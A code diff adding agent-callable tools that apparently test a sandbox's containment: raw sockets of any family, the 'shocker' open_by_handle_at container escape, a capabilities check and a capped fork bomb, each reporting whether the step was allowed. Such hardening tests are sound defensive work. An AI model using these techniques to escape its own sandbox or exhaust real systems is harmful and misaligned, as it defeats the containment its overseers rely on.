@@ -182,3 +182,64 @@ def attack_memfd_bomb() -> str:
     except OSError as exc:
         return f"stopped after {total >> 20} MiB: {exc.strerror}"
     return f"ALLOWED: {total >> 20} MiB"
+
+
+@tool
+def attack_socket(family: int, kind: int) -> str:
+    """Create a socket of any family (internet, packet, vsock, ...).
+
+    Args:
+        family: Address family number.
+        kind: Socket type number.
+    """
+    return _try(lambda: socket.socket(family, kind).close())
+
+
+@tool
+def attack_open_by_handle(path: str) -> str:
+    """Open a file by its inode handle instead of its path (the "shocker" escape).
+
+    Args:
+        path: File to open.
+    """
+    import struct
+
+    libc = ctypes.CDLL(None, use_errno=True)
+    handle = ctypes.create_string_buffer(8 + 128)
+    struct.pack_into("I", handle, 0, 128)
+    mount_id = ctypes.c_int()
+
+    def steal() -> bytes:
+        if libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(mount_id), 0):
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+        mount_fd = os.open(os.path.dirname(path) or "/", os.O_PATH)
+        fd = libc.open_by_handle_at(mount_fd, handle, os.O_RDONLY)
+        if fd < 0:
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+        return os.read(fd, 100)
+
+    return _try(steal)
+
+
+@tool
+def attack_whoami() -> dict[str, int]:
+    """The worker's uid, gid and effective capabilities."""
+    with open("/proc/self/status") as f:
+        caps = next(line for line in f if line.startswith("CapEff:"))
+    return {"uid": os.getuid(), "gid": os.getgid(), "caps": int(caps.split()[1], 16)}
+
+
+@tool
+def attack_fork_bomb() -> str:
+    """Fork until refused; report how many children were made."""
+    children = 0
+    try:
+        while children < 2000:
+            pid = os.fork()
+            if pid == 0:
+                signal.pause()
+                os._exit(0)
+            children += 1
+    except OSError as exc:
+        return f"stopped after {children} children: {exc.strerror}"
+    return f"ALLOWED: {children} children"
